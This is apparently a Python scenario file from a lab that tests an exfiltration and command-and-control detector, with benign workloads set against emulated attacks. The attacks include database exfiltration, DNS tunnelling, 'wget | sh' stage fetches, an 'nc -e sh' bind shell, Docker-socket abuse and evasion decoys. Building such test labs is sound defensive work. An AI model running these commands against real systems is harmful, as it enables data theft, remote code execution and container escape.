"""The scenarios: what runs in the lab's containers, what must be caught.

Workloads are image names (tags of one lab image). The learn phase teaches
the baseline what the benign workloads normally do; attacks then run either
in a never-seen image (the seed's `docker run --rm ... my-exfil-container`)
or inside a known workload that starts behaving differently.
"""

from __future__ import annotations

import base64
import os
import shutil
import subprocess
import threading
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from emulation.lab import LABEL, SECOND_IP, SINK_IP, VAULT_IP, Lab
from sensor.errors import SluiceError

IMG = "sluice-emu/"
API = IMG + "api-client:latest"
LOGS = IMG + "log-shipper:latest"
BACKUP = IMG + "backup-agent:latest"
EXFIL = IMG + "my-exfil-container:latest"
DB = IMG + "internal-db:latest"
BATCH = IMG + "batch:latest"
WEB = IMG + "web:latest"  # a service that takes outside clients on 8080
C2 = IMG + "c2-server:latest"  # never seen: the ephemeral C2 server
CI = IMG + "ci-runner:latest"  # uses the Docker socket to run its jobs
CI_JOB = IMG + "ci-job:latest"
DEPLOYER = IMG + "deployer:latest"  # never seen: mounts the Docker socket
TAGS = [API, LOGS, BACKUP, EXFIL, DB, BATCH, WEB, C2, CI, CI_JOB, DEPLOYER]
# The compromised workload: a long-lived web application (busybox and perl,
# no openssl, no curl) learned while benign; attacks run inside it by
# `docker exec`, as an intruder with a shell in it would.
WEBAPP = IMG + "webapp:latest"
# The intruder's own image (no openssl either), started through the web
# application's Docker socket: workers, an ephemeral C2 server, a sibling.
WORKER = IMG + "worker:latest"
BARE_TAGS = [WEBAPP, WORKER]
# the address the lab configures as the Kubernetes API server
# ([rules.SL-C2-008] api_servers); nothing listens there
K8S_API = (SINK_IP, 6443)
WEB_SERVE = (
    "timeout {secs} nc -ll -p 8080 -e sh -c 'cat > /dev/null'; true"  # not exec'd as pid 1: that ignores SIGTERM
)

ENC = "openssl enc -aes-256-cbc -pbkdf2 -pass pass:lab"
# A TLS client that sends its stdin and stops at EOF. -nocommands: without
# it s_client reads a stdin chunk that starts with Q as "quit" (and R, k, K
# as commands), so about one random upload in three stopped part way.
S_CLIENT = "openssl s_client -quiet -no_ign_eof -nocommands"


def https_post(host: str, src: str, path: str = "/upload") -> str:
    """POST a file over TLS: curl when the image has it, else openssl."""
    return (
        f"if command -v curl >/dev/null; then curl -sk --max-time 30 --data-binary @{src} https://{host}{path} >/dev/null; "
        f"else (printf 'POST {path} HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: %s\\r\\nConnection: close\\r\\n\\r\\n' "
        f"$(wc -c < {src}); cat {src}) | {S_CLIENT} -connect {host}:443 >/dev/null 2>&1; fi"
    )


def http_post(host: str, port: int, src: str, path: str, body_apart: bool = False) -> str:
    """POST a file over plain HTTP with nc (busybox wget --post-file stops
    at the first NUL byte, so binary bodies need this). body_apart: the
    head goes out in its own packet before the body (as HTTP clients that
    write headers and body separately do); otherwise they may share one."""
    pause = "usleep 200000; " if body_apart else ""
    return (
        f"(printf 'POST {path} HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: %s\\r\\nConnection: close\\r\\n\\r\\n' "
        f"$(wc -c < {src}); {pause}cat {src}) | nc {host} {port} >/dev/null"
    )


def https_get(host: str) -> str:
    return (
        f"printf 'GET /api/v1/items HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n' | "
        f"{S_CLIENT} -connect {host}:443 >/dev/null 2>&1"
    )


# --- what the benign workloads do (learn phase and benign scenarios) -------------

API_CALL = https_get(SINK_IP)
LOG_TEXT = f"head -c 20000 /data/text.txt | nc {SINK_IP} 9001"
LOG_GZIP = "head -c 30000 /data/text.txt | gzip > /tmp/l.gz; " + http_post(SINK_IP, 8080, "/tmp/l.gz", "/logs")
BACKUP_RUN = f"head -c 400000 /dev/urandom > /tmp/b; {ENC} -in /tmp/b -out /tmp/b.enc; " + https_post(
    VAULT_IP, "/tmp/b.enc", "/vault"
)


# A partner API the API client reaches by name: the sink's DNS server answers
# it (SinkNet.set_names); the learn phase sees it at SINK_IP, the
# benign-service-moved scenario at SECOND_IP (another /24).
SERVICE = "api.partner-svc.test"


def resolve(name: str) -> str:
    """Ask the sink's DNS server for `name` (a real DNS answer into the
    container, busybox nslookup); $ip is the last address it gave."""
    return f"ip=$(nslookup {name} {SINK_IP} | tail -n +3 | grep -o '198[.]18[.][0-9.]*' | tail -1)"


def https_get_named(name: str) -> str:
    return (
        f"{resolve(name)}; printf 'GET /api/v1/items HTTP/1.1\\r\\nHost: {name}\\r\\nConnection: close\\r\\n\\r\\n' | "
        f"{S_CLIENT} -connect $ip:443 -servername {name} >/dev/null 2>&1"
    )


NAMED_API_CALL = https_get_named(SERVICE)


# The web application's own code: a WebSocket chat client sending masked
# text frames (RFC 6455: clients mask with a random key per frame).
CHAT_PL = r"""
use IO::Socket::INET;
my ($host, $port, $n, $delay) = @ARGV;
my $s = IO::Socket::INET->new(PeerAddr => "$host:$port", Proto => "tcp") or die "connect: $!";
print $s "GET /chat HTTP/1.1\r\nHost: $host\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
  . "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n";
open(my $t, "<", "/data/text.txt") or die; local $/; my $text = <$t>;
for my $i (1 .. $n) {
  my $m = substr($text, ($i * 97) % (length($text) - 200), 120);
  my $k = pack("N", int(rand(4294967295)));
  print $s pack("CC", 0x81, 0x80 | length($m)) . $k . ($m ^ substr($k x 31, 0, length($m)));
  select(undef, undef, undef, $delay) if $delay > 0;
}
"""

# Intruder scripts (written into the container, run with its perl).
UDP_PL = r"""
use IO::Socket::INET;
my ($host, $port, $n) = @ARGV;
my $s = IO::Socket::INET->new(PeerAddr => "$host:$port", Proto => "udp") or die "udp: $!";
open(my $r, "<", "/dev/urandom") or die;
for (1 .. $n) { read($r, my $b, 1200); $s->send($b); select(undef, undef, undef, 0.002); }
"""
DNS_PL = r"""
use IO::Socket::INET;
my ($host, $port, $n) = @ARGV;
my $s = IO::Socket::INET->new(PeerAddr => "$host:$port", Proto => "udp") or die "udp: $!";
open(my $r, "<", "/dev/urandom") or die;
for my $i (1 .. $n) {
  read($r, my $b, 28); my $l = unpack("H*", $b);
  my $q = pack("nnnnnn", $i, 0x0100, 1, 0, 0, 0) . chr(length $l) . $l . chr(1) . "t"
    . chr(9) . "exfil-lab" . chr(4) . "test" . chr(0) . pack("nn", 1, 1);
  $s->send($q); select(undef, undef, undef, 0.05);
}
"""


# The Docker Engine API over the mounted socket, as `curl --unix-socket`
# would do it (the web application has no docker CLI and no curl): create a
# container (labelled for the lab's cleanup), start it, and with "wait"
# block until it exits. HTTP/1.0: no chunked replies to parse.
DOCKER_PL = r"""
use IO::Socket::UNIX;
my ($name, $image, $net, $label, $script, $wait) = @ARGV;
sub js { my $x = shift; $x =~ s/(["\\])/\\$1/g; $x =~ s/\n/\\n/g; return "\"$x\""; }
sub api {
  my ($method, $path, $body) = @_; $body //= "";
  my $s = IO::Socket::UNIX->new(Peer => "/var/run/docker.sock") or die "docker.sock: $!";
  print $s "$method $path HTTP/1.0\r\nHost: docker\r\nContent-Type: application/json\r\n"
    . "Content-Length: " . length($body) . "\r\n\r\n" . $body;
  local $/; my $r = <$s>; close $s;
  $r =~ m{^HTTP/\S+ (\d+)} && $1 < 300 or die "$method $path: $r";
  return $r;
}
my ($lk, $lv) = split /=/, $label, 2;
api("POST", "/containers/create?name=$name", "{\"Image\":" . js($image) . ",\"Cmd\":[\"sh\",\"-c\","
  . js($script) . "],\"Labels\":{" . js($lk) . ":" . js($lv) . "},\"HostConfig\":{\"NetworkMode\":"
  . js($net) . "}}");
api("POST", "/containers/$name/start");
api("POST", "/containers/$name/wait") if $wait;
"""


def put(path: str, text: str) -> str:
    """Shell that writes `text` to `path` (no quoting to get wrong)."""
    return f"echo {base64.b64encode(text.encode()).decode()} | base64 -d > {path}"


WEBAPP_NOTE = (
    """printf '{"user":"alice","note":"%s"}' "$(head -c 800 /data/text.txt | tr -dc 'a-zA-Z0-9 .,;:-')" > /tmp/n.json; """
    + http_post(SINK_IP, 8080, "/tmp/n.json", "/api/notes")
)
WEBAPP_IMAGE = (
    """{ printf '{"image":"'; head -c 16000 /dev/urandom | base64 | tr -d '\\n'; printf '"}'; } > /tmp/i.json; """
    + http_post(SINK_IP, 8080, "/tmp/i.json", "/api/images")
)
# The backup client sends its head, then the body: a compressed body that
# shares a packet with a head longer than the sample is never seen starting,
# so it cannot be proven (README: false-positive sources).
WEBAPP_BACKUP = "head -c 30000 /data/text.txt | gzip > /tmp/bk.gz; " + http_post(
    SINK_IP, 8080, "/tmp/bk.gz", "/backup", body_apart=True
)
WEBAPP_CHAT = f"perl /app/chat.pl {SINK_IP} 9001 20 0"
WEBAPP_JOB = f"{WEBAPP_NOTE}; {WEBAPP_IMAGE}; {WEBAPP_BACKUP}; {WEBAPP_CHAT}"


def loop(body: str, every: float, times: int) -> str:
    return f"i=0; while [ $i -lt {times} ]; do {body}; i=$((i+1)); sleep {every}; done"


@dataclass
class Ctx:
    lab: Lab
    workdir: Path
    containers: list[str] = field(default_factory=list)

    def run(self, image: str, script: str, **kw: Any) -> str:
        cid, _ip = self.lab.start(image, script, **kw)
        self.containers.append(cid)
        self.lab.wait(cid)
        return cid

    def start(self, image: str, script: str, **kw: Any) -> tuple[str, str | None]:
        cid, ip = self.lab.start(image, script, **kw)
        self.containers.append(cid)
        return cid, ip

    def webapp(self) -> str:
        """The long-lived web application (started once, kept from the
        learn phase into the detect phase). Its data volume (a customer
        database) is at /mnt/data; the Docker socket is mounted too, a
        common misconfiguration: the application never uses it."""
        cid = self.lab.kept.get(WEBAPP)
        if cid is None:
            data = self.workdir / "appdata"
            data.mkdir(exist_ok=True)
            (data / "customers.db").write_bytes(os.urandom(600_000))
            script = f"mkdir -p /app; {put('/app/chat.pl', CHAT_PL)}; while true; do {WEBAPP_JOB}; sleep 1; done"
            volumes = (f"{data}:/mnt/data", f"{self.lab.docker.sock}:/var/run/docker.sock")
            cid, ip = self.lab.start(WEBAPP, script, keep=True, volumes=volumes)
            self.lab.kept[WEBAPP] = cid
            self.lab.kept_ips[cid] = ip or ""
        return cid

    def webapp_ip(self) -> str:
        return self.lab.kept_ips[self.webapp()]

    def spawn(self, name: str, image: str, script: str, network: str = "none", wait: bool = True) -> str:
        """Shell for the intruder in the web application: start a container
        through its Docker socket (DOCKER_PL); network "self" joins the web
        application's network namespace. The new container belongs to the
        scenario (adopt() it after the exec)."""
        net = "container:$(hostname)" if network == "self" else network
        b64 = base64.b64encode(script.encode()).decode()
        return (
            f"{put('/tmp/.dk.pl', DOCKER_PL)}; perl /tmp/.dk.pl {name} {image} {net} {LABEL}={self.lab.run_id} "
            f'"$(echo {b64} | base64 -d)"' + (" wait" if wait else "")
        )

    def exec(self, script: str, timeout: float = 120) -> None:
        """Run `script` inside the running web application (docker exec)."""
        cid = self.webapp()
        if cid not in self.containers:
            self.containers.append(cid)
        self.lab.exec(cid, script, timeout)


def from_sink(ctx: Ctx, ip: str, port: int, data: bytes = b"hello\n", tries: int = 50) -> None:
    """Connect from the sink netns (the lab's "outside") to a container's
    port, retrying until it listens; raise when it never does."""
    for _ in range(tries):
        r = subprocess.run(
            ["ip", "netns", "exec", ctx.lab.net.ns, "busybox", "nc", "-w", "2", ip, str(port)],
            input=data,
            capture_output=True,
            timeout=15,
        )
        if r.returncode == 0:
            return
        time.sleep(0.2)
    raise SluiceError(f"nothing listened on {ip}:{port} from the sink")


def docker_mounts(ctx: Ctx) -> tuple[str, ...]:
    """The lab engine's socket and the docker CLI, mounted into a container."""
    cli = shutil.which("docker")
    if cli is None:
        raise SluiceError("the docker CLI is not installed")
    return (f"{ctx.lab.docker.sock}:/var/run/docker.sock", f"{os.path.realpath(cli)}:/usr/bin/docker:ro")


def inner_run(ctx: Ctx, name: str, image: str, script: str, network: str = "none") -> str:
    """A `docker run` issued from inside a container (labelled: the lab's
    cleanup removes what it starts)."""
    return (
        f"docker -H unix:///var/run/docker.sock run --name {name} --label {LABEL}={ctx.lab.run_id} "
        f'--network {network} {image} sh -c "{script}"'
    )


def adopt(ctx: Ctx, *names: str) -> None:
    """Containers started from inside a container belong to the scenario."""
    for n in names:
        cid = ctx.lab.docker("inspect", "-f", "{{.Id}}", n, check=False).strip()
        if cid:
            ctx.containers.append(cid)


@dataclass(frozen=True)
class Scenario:
    name: str
    attack: str  # ATT&CK id, or "benign"
    expect: tuple[str, ...]  # rules that must all fire ((): must stay silent / blind spot)
    description: str
    run: Callable[[Ctx], None]
    blind_spot: bool = False  # undetected is the documented expectation
    compromised: bool = False  # runs by docker exec inside the learned web application
    twin: str = ""  # compromised mode: the container-mode attack with the same goal

    @property
    def benign(self) -> bool:
        return self.attack == "benign"


# --- learn phase ------------------------------------------------------------------


def learn_phase(ctx: Ctx, seconds: float) -> None:
    """Benign workloads doing their normal job while the baseline learns."""
    n = max(3, int(seconds))
    ctx.lab.net.set_names({SERVICE: [SINK_IP]})
    ctx.webapp()
    ctx.start(API, loop(f"{API_CALL}; {NAMED_API_CALL}", 1, n))
    ctx.start(LOGS, loop(f"{LOG_TEXT}; {LOG_GZIP}", 1, n))
    _cid, web_ip = ctx.start(WEB, WEB_SERVE.format(secs=n))
    ci_jobs = (
        f"docker -H unix:///var/run/docker.sock run --rm --label {LABEL}={ctx.lab.run_id} --network none {CI_JOB} true"
    )
    ctx.start(CI, loop(ci_jobs, 2, max(2, n // 3)), network=False, volumes=docker_mounts(ctx))
    clients = threading.Thread(target=_web_clients, args=(ctx, web_ip or "", seconds - 2), daemon=True)
    clients.start()
    end = time.monotonic() + seconds
    while time.monotonic() < end - 3:  # nightly backup jobs: short-lived containers
        ctx.run(BACKUP, BACKUP_RUN)
        time.sleep(1)
    for c in list(ctx.containers):
        ctx.lab.wait(c, timeout=seconds + 30)  # the web application is kept: not in ctx.containers


def _web_clients(ctx: Ctx, ip: str, seconds: float) -> None:
    """The web service's usual clients: the sink, every half second."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            from_sink(ctx, ip, 8080, b"GET / HTTP/1.0\r\n\r\n", tries=3)
        except (SluiceError, subprocess.TimeoutExpired):
            pass
        time.sleep(0.5)


# --- attacks ------------------------------------------------------------------------


def _seed(ctx: Ctx) -> None:
    data = ctx.workdir / "data"
    data.mkdir(exist_ok=True)
    (data / "customers.db").write_bytes(os.urandom(600_000))
    script = f"{ENC} -in /mnt/data/customers.db -out /tmp/c.enc && " + https_post(SINK_IP, "/tmp/c.enc")
    ctx.run(EXFIL, script, rm=True, volumes=(f"{data}:/mnt/data",))


def _raw(ctx: Ctx) -> None:
    ctx.run(API, f"head -c 800000 /dev/urandom | {ENC} | nc {SINK_IP} 9000")


def _http(ctx: Ctx) -> None:
    ctx.run(LOGS, f"cat /data/text.txt /data/text.txt | {ENC} > /tmp/p; " + http_post(SINK_IP, 80, "/tmp/p", "/submit"))


def _dns(ctx: Ctx) -> None:
    ctx.run(
        API,
        f"{ENC} -in /data/text.txt | head -c 2400 | od -An -tx1 | tr -d ' \\n' | fold -w 56 | "
        f"while read l; do nslookup $l.t.exfil-lab.test {SINK_IP} >/dev/null 2>&1; done",
    )


def _spike(ctx: Ctx) -> None:
    ctx.run(API, "head -c 3000000 /dev/urandom > /tmp/s; " + https_post(SINK_IP, "/tmp/s", "/api/v1/items"))


def _new_dest(ctx: Ctx) -> None:
    ctx.run(API, "head -c 1200000 /dev/urandom > /tmp/s; " + https_post(SECOND_IP, "/tmp/s"))


def _slow(ctx: Ctx) -> None:
    ctx.run(LOGS, f"(i=0; while [ $i -lt 12 ]; do openssl rand 1000; i=$((i+1)); sleep 1; done) | nc {SECOND_IP} 9004")


def _multistage(ctx: Ctx) -> None:
    ctx.run(
        API,
        f"wget -q -O /tmp/.cache-update http://{SINK_IP}/stage2 && chmod +x /tmp/.cache-update && /tmp/.cache-update",
    )


STAGE2 = (
    f"#!/bin/sh\n# stage two: beacon to a second host (port: first argument, else 4444)\n"
    f'i=0; while [ $i -lt 8 ]; do echo "hb $i $(hostname)" | nc {SECOND_IP} ${{1:-4444}}; i=$((i+1)); sleep 1; done\n'
).encode()


def _pivot(ctx: Ctx) -> None:
    # the db reads each connection to its end: a plain `nc -l` closes as soon
    # as its own stdin (/dev/null) ends, and on a loaded machine that can be
    # before the client has sent a byte
    _db, ip = ctx.start(DB, "nc -ll -p 7000 -e sh -c 'cat > /dev/null'")
    # retry until the db listens (a loaded machine may take a while to start it)
    ctx.run(
        API,
        f"i=0; until head -c 200000 /dev/urandom | nc {ip} 7000; do i=$((i+1)); "
        "[ $i -ge 50 ] && exit 1; usleep 200000; done",
    )  # the db stays up until cleanup


def _burst(ctx: Ctx) -> None:
    ids = [ctx.lab.start(BATCH, "true", network=False)[0] for _ in range(6)]
    ctx.containers += ids
    for c in ids:
        ctx.lab.wait(c)
    ctx.run(BATCH, f"head -c 100000 /dev/urandom | nc {SECOND_IP} 9005")


def _c2_server(ctx: Ctx) -> None:
    cid, ip = ctx.start(C2, "nc -l -p 8443 -e sh -c 'cat > /dev/null'; sleep 1")
    from_sink(ctx, ip or "", 8443, b"beacon checkin\n")
    ctx.lab.wait(cid)


def _bind_shell(ctx: Ctx) -> None:
    cid, ip = ctx.start(WEB, WEB_SERVE.format(secs=15))
    from_sink(ctx, ip or "", 8080, b"GET / HTTP/1.0\r\n\r\n")  # still its usual self
    ctx.lab.docker("exec", "-d", cid, "nc", "-l", "-p", "4445", "-e", "sh")
    from_sink(ctx, ip or "", 4445, b"id; exit\n")


def _docker_sibling(ctx: Ctx) -> None:
    sib = f"sluice-emu-sib-{uuid.uuid4().hex[:8]}"
    exfil = f"head -c 600000 /dev/urandom | {ENC} | nc {SINK_IP} 9002"
    # the sibling joins the caller's network namespace, which reaches the sink
    script = inner_run(ctx, sib, EXFIL, exfil, network="container:$(hostname)")
    try:
        ctx.run(DEPLOYER, script, volumes=docker_mounts(ctx))
    finally:
        adopt(ctx, sib)


def _k8s_api(ctx: Ctx) -> None:
    ctx.run(API, f"nc -w 1 {K8S_API[0]} {K8S_API[1]} </dev/null; true")


# --- benign look-alikes ---------------------------------------------------------------


def _b_web(ctx: Ctx) -> None:
    cid, ip = ctx.start(WEB, WEB_SERVE.format(secs=6))
    for _ in range(4):
        from_sink(ctx, ip or "", 8080, b"GET / HTTP/1.0\r\n\r\n")
        time.sleep(0.3)
    ctx.lab.wait(cid)


def _b_ci(ctx: Ctx) -> None:
    jobs = [f"sluice-emu-job-{uuid.uuid4().hex[:8]}" for _ in range(2)]
    script = "; ".join(inner_run(ctx, j, CI_JOB, "true") for j in jobs)
    try:
        ctx.run(CI, script, network=False, volumes=docker_mounts(ctx))
    finally:
        adopt(ctx, *jobs)


def _b_backup(ctx: Ctx) -> None:
    ctx.run(BACKUP, BACKUP_RUN)


def _b_logs(ctx: Ctx) -> None:
    ctx.run(LOGS, loop(LOG_GZIP, 0.5, 4))


def _b_api(ctx: Ctx) -> None:
    ctx.run(API, loop(API_CALL, 0.5, 6))


def _b_text(ctx: Ctx) -> None:
    ctx.run(LOGS, loop(LOG_TEXT, 0.5, 4))


def _b_moved(ctx: Ctx) -> None:
    """The partner API moved to another address block: by address, its
    steady calls would be beaconing to a new destination; by name, they are
    what the baseline learned."""
    ctx.lab.net.set_names({SERVICE: [SECOND_IP]})
    try:
        ctx.run(API, loop(NAMED_API_CALL, 1, 8))
    finally:
        ctx.lab.net.set_names({SERVICE: [SINK_IP]})


# --- compromised workload: inside the learned web application -----------------------
# No encryption tool in the container: the intruder brings data already
# encrypted (random bytes stand for ciphertext) and shapes it to evade.


def _cw_b_gzip(ctx: Ctx) -> None:
    ctx.exec(
        "i=0; while [ $i -lt 30 ]; do cat /data/text.txt; i=$((i+1)); done | gzip > /tmp/big.gz; "
        + http_post(SINK_IP, 8080, "/tmp/big.gz", "/backup", body_apart=True)
    )


def _cw_b_ws(ctx: Ctx) -> None:
    ctx.exec(f"perl /app/chat.pl {SINK_IP} 9001 3000 0")


def _cw_b_images(ctx: Ctx) -> None:
    ctx.exec(loop(WEBAPP_IMAGE, 0.5, 3))


def _cw_encoded(ctx: Ctx) -> None:
    ctx.exec(
        """{ printf '{"backup":"'; head -c 400000 /dev/urandom | base64 | tr -d '\\n'; printf '"}'; } > /tmp/x.json; """
        + http_post(SECOND_IP, 80, "/tmp/x.json", "/api/v2/import")
    )


def _cw_fake_gzip(ctx: Ctx) -> None:
    ctx.exec(
        f"{{ printf '\\037\\213\\010\\000\\000\\000\\000\\000\\000\\003'; head -c 600000 /dev/urandom; }} | nc {SECOND_IP} 9000"
    )


def _cw_upgrade(ctx: Ctx) -> None:
    ctx.exec(
        "{ printf 'GET /chat HTTP/1.1\\r\\nHost: app\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n'; "
        f"sleep 1; head -c 600000 /dev/urandom; }} | nc {SECOND_IP} 9001"
    )


def _cw_udp(ctx: Ctx) -> None:
    ctx.exec(f"{put('/tmp/.u.pl', UDP_PL)}; perl /tmp/.u.pl {SECOND_IP} 5000 600")


def _cw_pipe(ctx: Ctx) -> None:
    ctx.exec(f"wget -q -O- http://{SINK_IP}/stage2 | sh")


def _cw_inline(ctx: Ctx) -> None:
    # the shell runs wget in a child, then sh -c with what it printed: no
    # file, no pipe into the interpreter. The stage beacons to port 9002
    # ($1): cw-pipe-stage-two's stage (4444, the same interpreter) would be
    # the same alert, suppressed as a repeat for 600 s
    ctx.exec(f'sh -c "$(wget -q -O- http://{SINK_IP}/stage2)" stage 9002')


def _cw_inline_wrapped(ctx: Ctx) -> None:
    # the fetch in a subshell's child (`$(wget ... | cat)`: wget's parent is
    # a subshell that only forked, in no exec table), the interpreter run by
    # a wrapper that forks and waits (xargs): the fetch is the wrapper's
    # sibling's child. Beacons to port 9005 (a suppression key of its own)
    ctx.exec(f's="$(wget -q -O- http://{SINK_IP}/stage2 | cat)"; echo 9005 | xargs sh -c "$s" stage')


def _cw_dns(ctx: Ctx) -> None:
    ctx.exec(f"{put('/tmp/.d.pl', DNS_PL)}; perl /tmp/.d.pl {SINK_IP} 5353 40")


def decoys(host: str, port: int, first: str, times: int = 12) -> str:
    """Shell: connections to host:port in the background, every 0.3 s,
    each sending `first` (printf escapes) and closing: whenever the
    exfiltration runs beside them, the latest socket to start towards that
    destination named another protocol."""
    return (
        f"(i=0; while [ $i -lt {times} ]; do printf '{first}' | nc {host} {port}; i=$((i+1)); usleep 300000; done) & "
    )


def _cw_decoy_ssh(ctx: Ctx) -> None:
    ctx.exec(
        "head -c 400000 /dev/urandom > /tmp/.q; "
        + decoys(SECOND_IP, 8081, "SSH-2.0-OpenSSH_9.6\\r\\n")
        + "usleep 500000; "
        + http_post(SECOND_IP, 8081, "/tmp/.q", "/sync")
        + "; wait"
    )


# The start of a ClientHello (a TLS socket's first bytes, which the sensor
# checks: protocol.tls_hello_start), in printf escapes: record header,
# handshake header, TLS 1.2, 32 bytes of random, no session id, one cipher
# suite, no compression.
TLS_HELLO_PRINTF = (
    "\\026\\003\\001\\000\\055\\001\\000\\000\\051\\003\\003" + "A" * 32 + "\\000\\000\\002\\023\\001\\001\\000"
)


def _cw_decoy_tls(ctx: Ctx) -> None:
    ctx.exec(
        "head -c 600000 /dev/urandom > /tmp/.r; "
        + decoys(SECOND_IP, 443, TLS_HELLO_PRINTF)
        + f"usleep 500000; nc {SECOND_IP} 443 < /tmp/.r; wait"
    )


# --- compromised twins of the container-mode attacks ------------------------------
# The same goal as each container-mode attack, reached from a shell in the
# web application with what it has (busybox, perl, its data volume, the
# Docker socket it was started with). Destinations differ from the other
# cw-* scenarios where the same rule must fire: alerts are suppressed per
# (rule, workload, destination), and all of these are one workload.


def _cw_seed(ctx: Ctx) -> None:
    # no TLS tool: the ciphertext goes raw to port 443, which egress
    # firewalls let through
    ctx.exec(f"nc {SINK_IP} 443 < /mnt/data/customers.db")


def _cw_raw(ctx: Ctx) -> None:
    ctx.exec(f"head -c 800000 /dev/urandom | nc {SINK_IP} 9000")


def _cw_http(ctx: Ctx) -> None:
    ctx.exec("head -c 70000 /dev/urandom > /tmp/.p; " + http_post(SINK_IP, 80, "/tmp/.p", "/submit"))


def _cw_dns_tunnel(ctx: Ctx) -> None:
    ctx.exec(
        "head -c 1200 /dev/urandom | od -An -tx1 | tr -d ' \\n' | fold -w 56 | "
        f"while read l; do nslookup $l.t.exfil-lab.test {SINK_IP} >/dev/null 2>&1; done"
    )


def image_post(host: str, port: int, nbytes: int) -> str:
    """The web application's own upload shape (a base64 image in JSON),
    carrying `nbytes` of ciphertext."""
    return (
        f"""{{ printf '{{"image":"'; head -c {nbytes} /dev/urandom | base64 | tr -d '\\n'; printf '"}}'; }} """
        "> /tmp/.i.json; " + http_post(host, port, "/tmp/.i.json", "/api/images")
    )


def _cw_spike(ctx: Ctx) -> None:
    # its learned destination, its usual request: only the volume is unusual
    ctx.exec(image_post(SINK_IP, 8080, 2_300_000))


def _cw_new_dest(ctx: Ctx) -> None:
    ctx.exec(image_post(SECOND_IP, 8080, 900_000))


def _cw_slow(ctx: Ctx) -> None:
    ctx.exec(
        f"(i=0; while [ $i -lt 12 ]; do head -c 1000 /dev/urandom; i=$((i+1)); sleep 1; done) | nc {SECOND_IP} 9004"
    )


def _cw_multistage(ctx: Ctx) -> None:
    # the stage two beacons to port 9003 (cw-pipe-stage-two: 4444)
    ctx.exec(
        f"wget -q -O /tmp/.cache-update http://{SINK_IP}/stage2 && chmod +x /tmp/.cache-update && /tmp/.cache-update 9003"
    )


def _cw_pivot(ctx: Ctx) -> None:
    _db, ip = ctx.start(DB, "nc -ll -p 7000 -e sh -c 'cat > /dev/null'")
    ctx.exec(
        f"i=0; until head -c 200000 /dev/urandom | nc {ip} 7000; do i=$((i+1)); "
        "[ $i -ge 50 ] && exit 1; usleep 200000; done"
    )


def _cw_burst(ctx: Ctx) -> None:
    names = [f"sluice-emu-w-{uuid.uuid4().hex[:8]}" for _ in range(7)]
    script = "; ".join(ctx.spawn(n, WORKER, "true") for n in names[:6])
    script += "; " + ctx.spawn(names[6], WORKER, f"head -c 100000 /dev/urandom | nc {SECOND_IP} 9005", network="self")
    try:
        ctx.exec(script)
    finally:
        adopt(ctx, *names)


def _cw_c2_server(ctx: Ctx) -> None:
    name = f"sluice-emu-c2-{uuid.uuid4().hex[:8]}"
    try:
        ctx.exec(ctx.spawn(name, WORKER, "nc -l -p 8443 -e sh -c 'cat > /dev/null'; sleep 1", "self", wait=False))
        adopt(ctx, name)
        from_sink(ctx, ctx.webapp_ip(), 8443, b"beacon checkin\n")
        ctx.lab.wait(name, timeout=30)
    finally:
        adopt(ctx, name)


def _cw_bind_shell(ctx: Ctx) -> None:
    ctx.exec("true")  # the web application belongs to the scenario
    ctx.lab.docker("exec", "-d", ctx.webapp(), "nc", "-l", "-p", "4445", "-e", "sh")
    from_sink(ctx, ctx.webapp_ip(), 4445, b"id; exit\n")


def _cw_docker_sibling(ctx: Ctx) -> None:
    name = f"sluice-emu-sib-{uuid.uuid4().hex[:8]}"
    try:
        ctx.exec(ctx.spawn(name, WORKER, f"head -c 600000 /dev/urandom | nc {SINK_IP} 9002", network="self"))
    finally:
        adopt(ctx, name)


def _cw_k8s_api(ctx: Ctx) -> None:
    ctx.exec(
        "printf 'GET /api/v1/namespaces/default/secrets HTTP/1.1\\r\\nHost: kubernetes.default.svc\\r\\n"
        "Authorization: Bearer x\\r\\n\\r\\n' | "
        f"nc -w 1 {K8S_API[0]} {K8S_API[1]}; true"
    )


COMPROMISED: tuple[Scenario, ...] = tuple(
    Scenario(name, attack, expect, description, fn, compromised=True)
    for name, attack, expect, description, fn in (
        ("cw-benign-gzip-backup", "benign", (), "the web app POSTs a 360 KB real gzip backup, as learned", _cw_b_gzip),
        (
            "cw-benign-websocket-text",
            "benign",
            (),
            "the web app's WebSocket chat: 3000 masked text frames (380 KB) to its learned peer",
            _cw_b_ws,
        ),
        ("cw-benign-base64-images", "benign", (), "the web app uploads base64 images, as learned", _cw_b_images),
        (
            "cw-encoded-json",
            "T1048.001",
            ("SL-EXF-003",),
            "ciphertext base64-encoded into a JSON string, POSTed over plain HTTP to a new host",
            _cw_encoded,
        ),
        (
            "cw-fake-gzip-header",
            "T1048.001",
            ("SL-EXF-002",),
            "a gzip header in its own packet, then ciphertext, over raw TCP",
            _cw_fake_gzip,
        ),
        (
            "cw-websocket-upgrade",
            "T1048.001",
            ("SL-EXF-003",),
            "an HTTP request with Upgrade: websocket, then raw ciphertext on the same connection",
            _cw_upgrade,
        ),
        ("cw-udp", "T1048.001", ("SL-EXF-002",), "ciphertext in UDP datagrams to port 5000 (perl)", _cw_udp),
        (
            "cw-pipe-stage-two",
            "T1104",
            ("SL-C2-001",),
            "`wget -O- URL | sh`: a script piped into the shell, which beacons to a second host",
            _cw_pipe,
        ),
        (
            "cw-inline-stage-two",
            "T1104",
            ("SL-C2-001",),
            '`sh -c "$(wget -O- URL)"`: the fetched script on the shell\'s command line, which beacons to a second '
            "host",
            _cw_inline,
        ),
        (
            "cw-inline-wrapped-stage",
            "T1104",
            ("SL-C2-001",),
            "the fetched script kept from a subshell (`$(wget -O- URL | cat)`) and run by `xargs sh -c`, which "
            "beacons to a second host",
            _cw_inline_wrapped,
        ),
        (
            "cw-dns-other-port",
            "T1048.001",
            ("SL-EXF-003",),
            "hex-encoded ciphertext in DNS query names, sent to port 5353 (perl)",
            _cw_dns,
        ),
        (
            "cw-decoy-ssh-banner",
            "T1048.001",
            ("SL-EXF-003",),
            "400 KB of ciphertext POSTed over plain HTTP to port 8081 while decoy connections to the same "
            "port open with an SSH banner",
            _cw_decoy_ssh,
        ),
        (
